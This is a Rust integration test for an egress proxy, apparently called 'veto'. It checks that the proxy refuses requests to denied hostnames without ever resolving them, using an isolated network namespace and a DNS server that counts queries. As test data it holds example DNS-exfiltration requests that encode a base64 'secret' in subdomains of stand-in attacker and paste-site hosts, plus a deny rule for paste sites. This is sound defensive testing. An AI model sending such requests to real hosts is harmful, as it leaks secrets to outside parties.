//! A refused name is never looked up: a query for `<secret>.attacker.example`
//! would deliver the secret to the attacker's name server even though the
//! request is refused. Proven with a name server of the test's own: `veto
//! run` runs in a network namespace made here, whose `resolv.conf` (bind-
//! mounted by `ip netns exec`) points at a DNS server on the namespace's
//! loopback that counts every query it gets. Nothing leaves the namespace.

mod common;

use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

/// A network namespace with its own resolv.conf, removed when dropped.
struct Netns {
    name: String,
}

impl Netns {
    fn new() -> Netns {
        let name = format!("veto-dns-{}", std::process::id());
        let ip = |args: &[&str]| {
            let out = Command::new("ip")
                .args(args)
                .output()
                .expect("iproute2's `ip` is installed");
            assert!(
                out.status.success(),
                "ip {args:?}: {} (this test needs root: it makes a network namespace)",
                String::from_utf8_lossy(&out.stderr)
            );
        };
        let _ = Command::new("ip").args(["netns", "del", &name]).output();
        ip(&["netns", "add", &name]);
        ip(&["netns", "exec", &name, "ip", "link", "set", "lo", "up"]);
        let etc = format!("/etc/netns/{name}");
        std::fs::create_dir_all(&etc).unwrap();
        std::fs::write(format!("{etc}/resolv.conf"), "nameserver 127.0.0.1\n").unwrap();
        Netns { name }
    }

    /// Runs `f` on a thread whose sockets live in the namespace.
    fn thread<T: Send + 'static>(
        &self,
        f: impl FnOnce() -> T + Send + 'static,
    ) -> std::thread::JoinHandle<T> {
        let path = format!("/var/run/netns/{}", self.name);
        std::thread::spawn(move || {
            let ns = std::fs::File::open(&path).unwrap();
            // SAFETY: setns on this thread only, with a namespace file we
            // hold open; it changes which network this thread's new
            // sockets belong to, nothing else.
            let rc = unsafe { libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNET) };
            assert_eq!(rc, 0, "setns: {}", std::io::Error::last_os_error());
            f()
        })
    }
}

impl Drop for Netns {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["netns", "del", &self.name])
            .output();
        let _ = std::fs::remove_dir_all(format!("/etc/netns/{}", self.name));
    }
}

use common::netlab::{Asked, question};

/// A DNS server on 127.0.0.1:53 of the namespace: `allowed.test` is
/// 127.0.0.1, every other name does not exist; every query is counted.
fn dns_server(asked: Asked) {
    let sock = UdpSocket::bind((Ipv4Addr::LOCALHOST, 53)).unwrap();
    let mut buf = [0u8; 1500];
    loop {
        let Ok((n, from)) = sock.recv_from(&mut buf) else {
            return;
        };
        let q = &buf[..n];
        let Some((name, end, ty)) = question(q) else {
            continue;
        };
        asked.lock().unwrap().push(name.clone());
        let known = name == "allowed.test";
        let mut r = q[..end].to_vec();
        r[2] = 0x81 | (q[2] & 0x01); // response, recursion desired as asked
        r[3] = if known { 0x80 } else { 0x83 }; // recursion available; NXDOMAIN
        r[6..12].copy_from_slice(&[0, 0, 0, 0, 0, 0]);
        if known && ty == 1 {
            r[7] = 1;
            r.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1]);
        }
        let _ = sock.send_to(&r, from);
    }
}

/// A raw request through the proxy; the answer's text.
fn ask(proxy: std::net::SocketAddr, req: String) -> String {
    let mut s = TcpStream::connect(proxy).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(req.as_bytes()).unwrap();
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    String::from_utf8_lossy(&out).into_owned()
}

#[test]
fn a_refused_name_is_never_looked_up() {
    let ns = Netns::new();
    let asked: Asked = Arc::default();
    let a = asked.clone();
    let _dns = ns.thread(move || dns_server(a));
    let (up_tx, up_rx) = std::sync::mpsc::channel();
    let _up = ns.thread(move || {
        let l = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        up_tx.send(l.local_addr().unwrap()).unwrap();
        for s in l.incoming() {
            let Ok(s) = s else { continue };
            std::thread::spawn(move || common::serve_http(s, Duration::ZERO));
        }
    });
    let up = up_rx.recv().unwrap();

    let policy = "version: 1
defaults: { decision: deny, private_networks: allow }
rules:
  - id: allowed
    effect: allow
    to: { hosts: [allowed.test, missing.test] }
  - id: no-paste
    effect: deny
    reason: No paste sites.
    to: { hosts: [\"*.paste.test\"] }
";
    let dir = tempfile::tempdir().unwrap();
    let policy_path = dir.path().join("veto.yaml");
    std::fs::write(&policy_path, policy).unwrap();
    let mut cmd = Command::new("ip");
    cmd.args(["netns", "exec", &ns.name, env!("CARGO_BIN_EXE_veto"), "run"])
        .args([
            "--listen",
            "127.0.0.1:0",
            "--admin",
            "127.0.0.1:0",
            "--policy",
        ])
        .arg(&policy_path)
        .arg("--data")
        .arg(dir.path().join("data"))
        .current_dir(dir.path());
    let veto = common::Veto::spawn(cmd, dir, policy_path);
    let proxy = veto.addr;
    let port = up.port();

    let answers = ns
        .thread(move || {
            vec![
                ask(proxy, "GET http://c2VjcmV0LWtleQ.attacker.test/ HTTP/1.1\r\nConnection: close\r\n\r\n".into()),
                ask(proxy, "CONNECT c2VjcmV0.paste.test:443 HTTP/1.1\r\nHost: c2VjcmV0.paste.test:443\r\n\r\n".into()),
                ask(proxy, format!("GET http://allowed.test:{port}/ HTTP/1.1\r\nConnection: close\r\n\r\n")),
                ask(proxy, format!("GET http://missing.test:{port}/ HTTP/1.1\r\nConnection: close\r\n\r\n")),
            ]
        })
        .join()
        .unwrap();
    assert!(answers[0].starts_with("HTTP/1.1 403"), "{}", answers[0]);
    assert!(answers[1].starts_with("HTTP/1.1 403"), "{}", answers[1]);
    assert!(answers[2].starts_with("HTTP/1.1 200"), "{}", answers[2]);
    // A name that does not exist: 502, and its record (rule unresolvable).
    assert!(answers[3].starts_with("HTTP/1.1 502"), "{}", answers[3]);
    let id = answers[3]
        .lines()
        .find_map(|l| l.strip_prefix("veto-request-id: "))
        .unwrap_or_else(|| panic!("no Veto-Request-Id: {}", answers[3]))
        .trim()
        .to_string();

    let asked = asked.lock().unwrap().clone();
    // The server works and veto uses it: the allowed name was asked...
    assert!(asked.iter().any(|n| n == "allowed.test"), "{asked:?}");
    // ...and neither refused name ever was, in any form.
    assert!(
        !asked.iter().any(|n| n.contains("c2vjcmv0")),
        "a refused name reached the name server: {asked:?}"
    );

    let records = veto.records(&[]);
    let by_host = |h: &str| {
        records
            .iter()
            .find(|r| r["host"] == h)
            .unwrap_or_else(|| panic!("no record for {h}: {records:?}"))
    };
    assert!(by_host("c2vjcmv0lwtleq.attacker.test")["dns_lookup"].is_null());
    assert!(by_host("c2vjcmv0.paste.test")["dns_lookup"].is_null());
    assert_eq!(by_host("allowed.test")["dns_lookup"], true);
    let missing = by_host("missing.test");
    assert_eq!(
        missing["id"],
        id.as_str(),
        "the answer's id names the record"
    );
    assert_eq!(missing["rule"], "unresolvable");
    assert_eq!(missing["decision"], "deny");
    assert_eq!(missing["status"], 502);
    assert!(asked.iter().any(|n| n == "missing.test"), "{asked:?}");
}
